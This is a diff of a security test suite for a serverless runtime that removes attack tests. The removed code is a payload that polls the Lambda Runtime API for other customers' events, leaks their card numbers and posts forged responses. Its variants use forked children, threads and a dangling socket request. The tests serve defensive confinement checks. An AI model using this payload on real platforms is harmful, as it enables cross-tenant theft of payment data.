@@ -1,9 +1,6 @@
-"""The worker that becomes the runtime (L2; T1557 Adversary-in-the-Middle, M5): polling for other customers' events.
+"""Answers stay with their requests (L2, L3; T1557 Adversary-in-the-Middle), whatever happened to the worker before.
 
-The Runtime API asks no one for a name, and its address is the same in every environment of Lambda's: what a worker's variable
-names instead keeps nobody from it. The payload answers its own event and
-polls for the next ones, itself or through a child. It must receive no event of anybody else, and every
-customer must be answered by the function.
+Who takes the runtime's place is in the catalogue, and in test_runtime_api_unlocked.py where nothing is locked.
 """
 
 from __future__ import annotations
@@ -16,73 +13,6 @@ import pytest
 from tests.attacks.shop import Shop, needs_confinement
 
 pytestmark = needs_confinement()
-
-CLIENT = """
-import http.client, json
-address = event["api"]
-base = "/2018-06-01/runtime/invocation/"
-def call(method, path, body=None, timeout=1.5):
-    connection = http.client.HTTPConnection(address, timeout=timeout)
-    try:
-        connection.request(method, base + path, body)
-        reply = connection.getresponse()
-        return reply.status, dict(reply.getheaders()), reply.read()
-    except OSError:
-        return 0, {}, b""
-    finally:
-        connection.close()
-mine = context.aws_request_id
-def skim(seconds):
-    end = time.time() + seconds
-    while time.time() < end:
-        status, headers, body = call("GET", "next")
-        found = headers.get("Lambda-Runtime-Aws-Request-Id")
-        if status == 200 and found != mine:
-            leak(body.decode())
-            card = json.loads(body).get("card", "")
-            call("POST", found + "/response", json.dumps({"mark": card, "paid_by": card[-4:]}))
-        if status != 200:
-            time.sleep(0.001)
-"""
-ATTACKS = {
-    "answers for itself and polls on": "call('POST', mine + '/response', '1'); skim(4)",
-    "polls in the window, by a child": "if os.fork() == 0: skim(4); os._exit(0)",
-    "polls in the window, by a hidden child": """
-if os.fork() == 0:
-    os.setsid()
-    if os.fork() == 0: skim(4)
-    os._exit(0)
-time.sleep(0.02)
-""",
-    "polls in the window, by threads": """
-import threading
-for _ in range(8): threading.Thread(target=skim, args=(4,), daemon=True).start()
-time.sleep(0.02)
-""",
-    "reports an error for itself and polls on": "call('POST', mine + '/error', '{}'); skim(4)",
-    "has a poll outstanding when it answers": """
-out = socket.create_connection(tuple(address.split(":")))
-out.sendall(b"GET " + base.encode() + b"next HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
-""",
-}
-
-
-@pytest.mark.parametrize("name", ATTACKS)
-def test_no_event_of_another_customer_is_received(name: str) -> None:
-    with Shop("dayfly", timeout_s=3) as shop:
-        shop.serve(1)
-        shop.attack(CLIENT + ATTACKS[name])
-        # A request for the next event that the platform reads after its sender's death and after the answer
-        # swallows that event: docs/security.md, out of reach. Nobody gets it.
-        cards = shop.serve(6, may_time_out=0)
-        assert shop.stolen(cards) == 0
-        assert all(json.dumps(card) not in datagram for datagram in shop.sink.received() for card in cards)
-
-
-def test_a_plain_environment_is_taken_over(plain_shop: Shop) -> None:
-    plain_shop.attack(CLIENT + ATTACKS["answers for itself and polls on"])
-    assert plain_shop.stolen(plain_shop.serve(4)) == 4
-
 
 MIXED = {
     "pays": "",
